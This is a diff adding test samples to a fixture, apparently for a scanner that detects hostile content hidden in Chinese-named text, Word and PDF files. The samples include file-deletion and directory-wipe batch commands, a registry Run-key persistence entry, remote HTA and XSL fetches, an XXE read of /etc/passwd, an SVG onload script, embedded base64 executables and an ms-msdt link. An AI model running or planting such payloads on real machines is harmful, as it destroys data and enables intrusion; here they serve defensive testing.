@@ -359,6 +359,21 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/a.xml.rels": _rels("subDocument", "http://10.0.0.1/s.docx")})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/b.xml.rels": _rels("hyperlink", "ms-msdt:/id PCWDiagnostic")})),
     ],
+    "script anywhere in text": [
+        ("说明.txt", "说明文字\r\n:: 注释\r\nstart calc.exe\r\n".encode("gb18030")),
+        ("说明.txt", b"\r\n" * 50 + b"del /f /q C:\\x\r\n"),
+        ("说明.txt", "乡镇统计站自查说明。\n".encode() * 300_000 + b"start http://10.0.0.1/a.hta\r\n"),
+        ("说明.txt", "乡镇统计站自查说明。\r\n".encode("utf-16") + "第二段。\r\n".encode("utf-16-le") * 2000
+         + "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe\r\n".encode("utf-16-le")),  # fmt: skip
+        ("说明.txt", "工作说明\r\n".encode("gb18030") * 500 + b"rd /s /q C:\\Users\r\n"),
+        ("说明.txt", "说明\r\n".encode("gb18030") + b"  @echo\r\nstart /b calc\r\n"),
+        ("说明.txt", b'Run("calc.exe")\n'), ("说明.txt", b"WEB\r\n1\r\nhttp://10.0.0.1/x.html\r\n"),
+        ("说明.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        ("说明.txt", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://10.0.0.1/a.xsl"?><a/>'),
+        ("说明.txt", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
+        ("说明.txt", b"data:\n" + base64.b64encode(PE) + b"\n"),
+        ("总结报告.docx", _rezip(REAL_DOCX, {"customXml/item9.xml": b"<x>" + base64.b64encode(PE) + b"</x>"})),
+    ],
     "pdf with encoded streams": [
         ("评分表.pdf", _pdf_xref_stream(b"/ASCIIHexDecode", _ahx(JS_OBJECT))),
         ("评分表.pdf", _pdf_xref_stream(b"/ASCII85Decode", _a85(JS_OBJECT))),
